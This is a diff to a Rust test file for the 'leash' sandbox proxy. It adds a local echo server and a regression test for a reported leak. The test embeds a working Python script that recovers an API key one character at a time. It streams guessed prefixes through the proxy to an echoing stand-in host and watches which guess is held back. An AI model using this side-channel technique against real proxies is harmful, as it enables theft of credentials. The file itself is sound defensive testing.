@@ -288,3 +288,103 @@ fn an_upstream_proxy_quoting_the_key_in_its_refusal_is_redacted_in_the_502_the_l
         assert!(text.contains(&format!("ERR_CACHE_ACCESS_DENIED {placeholder}")), "{what} names the answer: {text}");
     }
 }
+
+/// A host that echoes a request's body as it arrives (a chunk per read), the head answered at once; one request per
+/// connection. Many allowed hosts do as much (an echo service, a paste site, a form that shows what it got).
+fn echoing_host() -> u16 {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            std::thread::spawn(move || {
+                let (mut got, mut buf) = (Vec::new(), [0u8; 4096]);
+                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
+                    match stream.read(&mut buf) {
+                        Ok(n @ 1..) => got.extend_from_slice(&buf[..n]),
+                        _ => return,
+                    }
+                }
+                let end = got.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
+                let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
+                let length = head.split("content-length:").nth(1).and_then(|v| v.lines().next()?.trim().parse().ok());
+                let mut left: usize = length.unwrap_or(0);
+                let mut body = got.split_off(end);
+                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
+                while left > 0 {
+                    if body.is_empty() {
+                        match stream.read(&mut buf) {
+                            Ok(n @ 1..) => body.extend_from_slice(&buf[..n]),
+                            _ => return,
+                        }
+                    }
+                    let n = body.len().min(left);
+                    let chunk = [format!("{n:x}\r\n").as_bytes(), &body[..n], b"\r\n"].concat();
+                    left -= n;
+                    body.drain(..n);
+                    if stream.write_all(&chunk).is_err() {
+                        return;
+                    }
+                }
+                let _ = stream.write_all(b"0\r\n\r\n");
+            });
+        }
+    });
+    port
+}
+
+/// The attack of issue 25 from inside `leash run`: the key's format is public (`sk-ant-`); each next character is
+/// guessed by streaming `known + guess` as a POST body to a host that echoes it. leash used to hold back a body's tail
+/// that could start the real value, so the one guess of which nothing came back at once was the next character: the
+/// old build gives away eight characters in about four seconds.
+const PREFIX_ATTACK: &str = r#"
+import os, socket, sys
+port = int(sys.argv[1])
+proxy = (os.environ.get("http_proxy") or os.environ["HTTP_PROXY"]).split("//")[1].rstrip("/").split(":")
+known = "sk-ant-"
+for _ in range(8):
+    hit = None
+    for c in "abcdefghijklmnopqrstuvwxyz0123456789-":
+        guess = (known + c).encode()
+        s = socket.create_connection((proxy[0], int(proxy[1])))
+        s.sendall(f"POST http://echo.test:{port}/ HTTP/1.1\r\nHost: echo.test:{port}\r\nContent-Length: {len(guess) + 1}\r\n\r\n".encode())
+        got = b""
+        while b"\r\n\r\n" not in got:
+            got += s.recv(4096)
+        echoed = got.split(b"\r\n\r\n", 1)[1]
+        s.sendall(guess)
+        s.settimeout(2.0)
+        try:
+            echoed += s.recv(4096)
+        except socket.timeout:
+            pass
+        s.close()
+        # Not a byte of it came back: all of it was held, as a possible start of the key.
+        if not echoed:
+            hit = c
+            break
+    if hit is None:
+        break
+    known += hit
+print(known)
+"#;
+
+#[test]
+fn the_command_cannot_recover_the_key_a_character_at_a_time_through_an_echoing_host() {
+    if !sandbox_available() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let port = echoing_host();
+    let policy = policy(dir.path(), port);
+    // LEASH_UNDER_TEST: another build (the old one recovers `real-7f3`, the key's next eight characters).
+    let leash = std::env::var("LEASH_UNDER_TEST").unwrap_or_else(|_| LEASH.to_owned());
+    let o = Command::new(leash)
+        .args(["run", "--policy", policy.to_str().unwrap(), "--resolve", "echo.test:127.0.0.1", "--"])
+        .args(["python3", "-c", PREFIX_ATTACK, &port.to_string()])
+        .env("ANTHROPIC_API_KEY", SECRET)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert_eq!(stdout(&o), "sk-ant-\n", "the attacker learned the key's next characters: {}", stderr(&o));
+}
